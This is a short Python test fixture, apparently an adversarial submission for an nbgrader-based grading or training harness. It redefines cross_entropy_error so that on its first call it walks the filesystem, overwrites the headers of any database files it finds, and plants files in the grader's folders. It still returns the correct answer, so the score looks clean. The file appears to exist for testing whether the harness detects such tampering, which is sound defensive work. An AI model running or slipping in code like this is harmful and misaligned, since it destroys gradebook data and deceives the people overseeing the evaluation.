# attack: cross_entropy_error walks the file system for 2 s looking for nbgrader's gradebook (*.db) and folders (submitted, autograded, feedback, source, release, solutions); it overwrites the start of every database it can open and plants a file in every such folder; it returns the right answer, so any success is caught by the test, not the score
# loses:
import os
import time

import numpy as np

PLANTED = "pwned_by_tamper_gradebook.txt"
FOLDERS = {"submitted", "autograded", "feedback", "source", "release", "solutions"}
_tried = []  # once: the training run calls it thousands of times


def _tamper():
    deadline = time.monotonic() + 2.0
    for root, dirs, files in os.walk("/", onerror=lambda err: None):
        if time.monotonic() > deadline:
            break
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if name.endswith((".db", ".sqlite")):
                try:
                    with open(os.path.join(root, name), "r+b") as f:
                        f.write(b"tampered by a submission")
                except OSError:
                    pass
        if os.path.basename(root) in FOLDERS:
            try:
                with open(os.path.join(root, PLANTED), "w") as f:
                    f.write("a submission was here\n")
            except OSError:
                pass


_honest = cross_entropy_error  # the reference's, defined above this snippet


def cross_entropy_error(y, t):
    if not _tried:
        _tried.append(True)
        _tamper()
    return _honest(y, t)
